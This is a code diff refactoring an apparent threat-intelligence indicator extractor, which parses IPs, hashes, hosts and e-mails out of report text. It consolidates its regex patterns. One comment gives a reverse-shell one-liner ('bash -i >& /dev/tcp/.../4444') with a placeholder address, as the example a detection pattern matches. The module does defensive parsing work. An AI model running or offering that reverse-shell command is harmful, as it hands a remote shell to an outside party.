@@ -32,44 +32,25 @@ _IPV6 = re.compile(
 )
 
 
-def without_wildcards(word: str) -> str:
-    """Strip SQL LIKE wildcards (`%evil.example%`), but no encoded character."""
-    if word.startswith("%") and (word.endswith("%") or word[1:2] == "."):
-        return word.strip("%")
-    return word
-
-
-def is_ipv6(word: str) -> bool:
-    """Return whether a word is an IPv6 address: no time, MAC address, scope (`a::b`) or row of hex pairs."""
-    if not _IPV6.fullmatch(word) or not any(character.isdigit() for character in word):
-        return False
-    groups = [group for group in word.partition("/")[0].split(":") if group]
-    return ("::" in word and (len(groups) != 2 or len(groups[0]) > 2)) or any(
-        len(group) > 2 for group in groups
-    )
-
-
 _QUAD = r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}"
-# setup.exe:0f4c..
-_NAMED_HASH = re.compile(
-    r"[^:/\\]{1,250}\.[^:/\\]{1,16}:([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})", re.IGNORECASE | re.ASCII
+_DIGEST = r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})"
+_COMPOUNDS = (
+    # setup.exe:0f4c..
+    re.compile(rf"[^:/\\]{{1,250}}\.[^:/\\]{{1,16}}:{_DIGEST}", re.IGNORECASE | re.ASCII),
+    # 203.0.113.5#53: BIND and dig write an address and its port so
+    re.compile(rf"({_QUAD})#[0-9]{{1,5}}", re.ASCII),
+    # 203.0.113.5/203.0.113.6, but not 203.0.113.0/255.255.255.0
+    re.compile(rf"({_QUAD})/(?!(?:255|0)\.)({_QUAD})(?:/({_QUAD}))?", re.ASCII),
+    # evil.example:203.0.113.5
+    re.compile(rf"([a-z0-9][\w-]{{0,62}}(?:\.[\w-]{{1,63}}){{1,8}}):({_QUAD})", re.IGNORECASE),
+    # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
+    re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII),
+    # imphash:0f4c..    Domain:evil.example
+    re.compile(r"[\w-]{1,24}:([^/\\].*)", re.DOTALL),
+    # \\203.0.113.5@8080\share
+    re.compile(r"\\{2,}([^\\@]*).*", re.DOTALL),
 )
-# 203.0.113.5#53: BIND and dig write an address and its port so
-_NUMBERED = re.compile(rf"({_QUAD})#[0-9]{{1,5}}", re.ASCII)
-# 203.0.113.5/203.0.113.6, but not 203.0.113.0/255.255.255.0
-_TWO_ADDRESSES = re.compile(rf"({_QUAD})/(?!(?:255|0)\.)({_QUAD})(?:/({_QUAD}))?", re.ASCII)
-# evil.example:203.0.113.5
-_NAME_AND_ADDRESS = re.compile(rf"([a-z0-9][\w-]{{0,62}}(?:\.[\w-]{{1,63}}){{1,8}}):({_QUAD})", re.IGNORECASE)
-
-
-def compound_parts(word: str) -> list[str]:
-    """Return the independent values in a compound word, or an empty list."""
-    if match := _NAMED_HASH.fullmatch(word):
-        return [match[1]]
-    for pattern in (_NUMBERED, _TWO_ADDRESSES, _NAME_AND_ADDRESS):
-        if match := pattern.fullmatch(word):
-            return [part for part in match.groups() if part]
-    return []
+"""Words of several parts, each read as a word of its own; the first form that matches counts."""
 
 
 _SCHEMES = (
@@ -100,22 +81,17 @@ _LINK_TEXT = re.compile(r"(?<=/)\[(?=[\w_*])|\[$")
 _NEXT_LABEL = re.compile(r",[a-z]{2,20}:$", re.IGNORECASE)
 _EXPRESSION = re.compile(r"[^()]{1,2000}\)[(\[{*+?]")
 _PAIRS = {")": "(", "]": "[", "}": "{"}
-_LABELLED = re.compile(r"[\w-]{1,24}:(?=[^/\\])")
-HASH_NAMED_FILE = re.compile(
-    r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})(?:[._-][\w.-]*)?", re.IGNORECASE | re.ASCII
-)
+HASH_NAMED_FILE = re.compile(rf"{_DIGEST}(?:[._-][\w.-]*)?", re.IGNORECASE | re.ASCII)
 # 0f4c..:setup.exe
-_HASH_AND_NAME = re.compile(
-    r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})[:/](?=[^:\s])", re.IGNORECASE | re.ASCII
-)
-# bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
-_SHELL_SOCKET = re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII)
+_HASH_AND_NAME = re.compile(rf"{_DIGEST}[:/](?=[^:\s])", re.IGNORECASE | re.ASCII)
 _STARRED = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}(?:\.\*){1,2}", re.ASCII)
 _RANGE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3}(?:\.[0-9]{1,3}){0,3}", re.ASCII)
 # evil.example:1604:secret
 _HOST_PORT_MORE = re.compile(r"([^/?#:\\]{1,253}:\d{1,5}):[^/:]")
 _HOST = re.compile(r"[^/?#:\\]*")
 _EMAIL = re.compile(r"[^@/\\]+@[\w.-]+\.\w+")
+_MAX_PARTS = 4
+"""Maximum nesting depth of words in words."""
 
 # Sender address: a@evil.example    Sender e-mail(s): a@evil.example, b@evil.example    Người gửi: ..
 _SENDER = re.compile(
@@ -152,30 +128,24 @@ def locate(text: str) -> Iterator[tuple[str, Found]]:
     written = text.lower()
     paths = deque(match.span() for match in _PATH.finditer(refanged)) if "\\" in refanged else deque()
     for match in _tokens(refanged):
-        token = match[0]
-        if match["url"]:
-            url = match["url"]
+        kind = match.lastgroup or ""
+        text = match[kind]
+        if kind == "url":
             if refanged.startswith("++", max(0, match.start() - 2)):  # ++http://evil.example/a++ of AsciiDoc
-                url = url.rstrip("`").removesuffix("++")
-            for place, part in enumerate(_NEXT_URL.split(url)):
+                text = text.rstrip("`").removesuffix("++")
+            for place, part in enumerate(_NEXT_URL.split(text)):
                 part = part.lstrip("'\",;|()[]@{}") if place else part
                 yield from ((part, found) for found in _url(part, written))
-        elif match["range"]:
-            yield from ((token, found) for found in _values(match["range"]))
-        elif match["masked"]:
-            yield from ((token, found) for found in _masked(token))
-        elif match["named"]:
-            yield from ((match["named"], found) for found in _values(match["named"]))
-        elif match["email"]:
-            label = refanged[max(0, match.start() - _LABEL_LENGTH) : match.start()]
-            yield from ((token, found) for found in _email(token, label))
-        else:
+        elif kind == "word":
             while paths and paths[0][1] <= match.start():
                 paths.popleft()
             inside = bool(paths) and paths[0][0] <= match.start()
-            word = match["word"].rpartition("\\")[2] if inside else match["word"]
-            for found in _word(word, written):
-                yield token, _judge_in_path(found) if inside else _judge_word(found, refanged, match, written)
+            for found in _word(text.rpartition("\\")[2] if inside else text, written):
+                yield text, _judge_in_path(found) if inside else _judge_word(found, refanged, match, written)
+        else:
+            label = refanged[max(0, match.start() - _LABEL_LENGTH) : match.start()]
+            items = _email(text, label) if kind == "email" else _masked(text) if kind == "masked" else None
+            yield from ((text, found) for found in items or _values(text))
 
 
 def _tokens(text: str) -> Iterator[re.Match[str]]:
@@ -294,8 +264,8 @@ def _bare(word: str) -> str:
     if word.startswith("_") and word.endswith("_"):
         word = word.strip("_")
     word = word if word.startswith("::") else word.lstrip(":")
-    if "%" in word:
-        word = without_wildcards(word)
+    if word.startswith("%") and (word.endswith("%") or word[1:2] == "."):  # SQL: LIKE '%evil.example%'
+        word = word.strip("%")
     if word.startswith("\\") and HASH_NAMED_FILE.fullmatch(word, 1):  # sha256sum, of a name with an escape
         word = word[1:]
     return word
@@ -319,21 +289,29 @@ def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
     elif match := _HASH_AND_NAME.match(word):
         yield from _values(match[1])
         yield from _word(word[match.end() :], written, depth + 1)
-    elif ":" in word and is_ipv6(word):
+    elif _RANGE.fullmatch(word) or (":" in word and _is_ipv6(word)):
         yield from _values(word)
-    elif depth < 4 and (parts := compound_parts(word)):
+    elif parts := _compound_parts(word) if depth < _MAX_PARTS else ():
         for part in parts:
             yield from _word(part, written, depth + 1)
-    elif match := _SHELL_SOCKET.fullmatch(word):
-        yield from _word(match[1], written, depth + 1)
-    elif depth < 4 and (match := _LABELLED.match(word)):
-        yield from _word(word[match.end() :], written, depth + 1)
-    elif word.startswith("\\\\"):
-        yield from _word(word.strip("\\").partition("\\")[0].partition("@")[0], written, depth + 1)
     elif "." in word and "\\" not in word and not word.startswith(("/", "./", "../", "~")):
         yield from _dotted(word, written)
     elif len(word) == 128 and all(character in "0123456789abcdefABCDEF" for character in word):
         yield Refused(refusals.OTHER_HASH, word.lower())
+
+
+def _is_ipv6(word: str) -> bool:
+    """Return whether a word is an IPv6 address: no time, MAC address, scope (`a::b`) or row of hex pairs."""
+    if not _IPV6.fullmatch(word) or not any(character.isdigit() for character in word):
+        return False
+    groups = [group for group in word.partition("/")[0].split(":") if group]
+    long = any(len(group) > 2 for group in groups)
+    return long or ("::" in word and (len(groups) != 2 or len(groups[0]) > 2))
+
+
+def _compound_parts(word: str) -> list[str]:
+    match = next(filter(None, (pattern.fullmatch(word) for pattern in _COMPOUNDS)), None)
+    return [part for part in match.groups() if part] if match else []
 
 
 def _dotted(word: str, written: str) -> Iterator[Found]:
@@ -341,9 +319,6 @@ def _dotted(word: str, written: str) -> Iterator[Found]:
     if "@" in word:
         if _EMAIL.fullmatch(word):
             yield Refused(refusals.EMAIL, word)
-        return
-    if _RANGE.fullmatch(word):
-        yield from _values(word)
         return
     if match := _HOST_PORT_MORE.match(word):
         word = match[1]
